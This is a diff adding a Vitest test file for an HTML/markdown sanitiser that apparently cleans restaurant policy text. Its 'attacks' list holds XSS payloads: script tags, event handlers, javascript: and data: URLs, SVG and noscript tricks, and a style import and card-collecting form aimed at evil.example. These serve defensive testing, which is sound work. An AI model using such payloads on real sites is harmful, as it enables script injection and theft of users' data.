@@ -1,0 +1,86 @@
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { cleanHtml } from './clean-html.ts'
+
+test('an owner writes headings, lists and links without knowing HTML', () => {
+  const source =
+    '## Cancelling\nUntil the kitchen has begun.\n\n## Allergies\n- nuts\n- sesame & milk\n\nAsk **us**: [call](tel:+96522215486)'
+  expect(cleanHtml(source)).toBe(
+    [
+      '<h2 id="section-1">Cancelling</h2>',
+      '<p>Until the kitchen has begun.</p>',
+      '<h2 id="section-2">Allergies</h2>',
+      '<ul><li>nuts</li><li>sesame &amp; milk</li></ul>',
+      '<p>Ask <strong>us</strong>: <a href="tel:+96522215486" rel="noopener noreferrer nofollow">call</a></p>',
+    ].join('\n'),
+  )
+})
+
+test('plain paragraphs stay paragraphs, lines stay lines, and 3 < 5 is a sentence', () => {
+  expect(cleanHtml('One\ntwo\n\n3 < 5')).toBe('<p>One<br />two</p>\n<p>3 &lt; 5</p>')
+  expect(cleanHtml('')).toBe('')
+})
+
+test('numbered steps are a list', () => {
+  expect(cleanHtml('1. Order\n2) Eat')).toBe('<ol><li>Order</li><li>Eat</li></ol>')
+})
+
+test('HTML keeps what one reads, and the page keeps its own first heading', () => {
+  expect(cleanHtml('<h1 style="color:red" onclick="x()">Terms</h1><p>As <b>agreed</b></p>')).toBe(
+    '<h2 id="section-1">Terms</h2><p>As <b>agreed</b></p>',
+  )
+})
+
+const attacks = [
+  '<p>Hi</p><script>steal()</script>',
+  '<p onmouseover="steal()">Hi</p>',
+  '<p>Hi<img src=x onerror=steal()></p>',
+  '<a href="javascript:steal()">Hi</a>',
+  '<a href="JaVaScRiPt&colon;steal()">Hi</a>',
+  '<a href="data:text/html,<script>steal()</script>">Hi</a>',
+  '<p>Hi<svg><animate onbegin=steal() attributeName=x></svg></p>',
+  '<p>Hi</p><iframe srcdoc="<script>steal()</script>"></iframe>',
+  '<p>Hi</p><style>@import "//evil.example"</style>',
+  '<p>Hi</p><form action="//evil.example"><input name=card></form>',
+  '[Hi](javascript:steal())',
+  '<p>Hi <noscript><p title="</noscript><img src=x onerror=steal()>">',
+]
+
+test.each(attacks)('nothing runs, loads or leads astray: %s', (attack) => {
+  const clean = cleanHtml(attack)
+  expect(clean).toContain('Hi')
+  expect(clean).not.toMatch(
+    /<(?:script|style|img|svg|iframe|form|input|noscript)|\son\w+=|javascript|data:|steal\(\)<\/script/i,
+  )
+})
+
+test('whatever is written comes out clean', () => {
+  const piece = fc.oneof(
+    fc.constantFrom(
+      ...attacks,
+      '<',
+      '>',
+      '"',
+      '&',
+      '## ',
+      '- ',
+      '\n',
+      '\n\n',
+      '<p>',
+      '</p>',
+      '<h2>',
+      '</',
+      '[a](',
+      ')',
+    ),
+    fc.string({ maxLength: 8 }),
+  )
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
+      const clean = cleanHtml(pieces.join(''))
+      expect(clean).not.toMatch(
+        /<(?!\/?(?:h[234]|p|br|hr|blockquote|ul|ol|li|strong|b|em|i|u|s|a|table|thead|tbody|tr|th|td)\b)/,
+      )
+    }),
+  )
+})
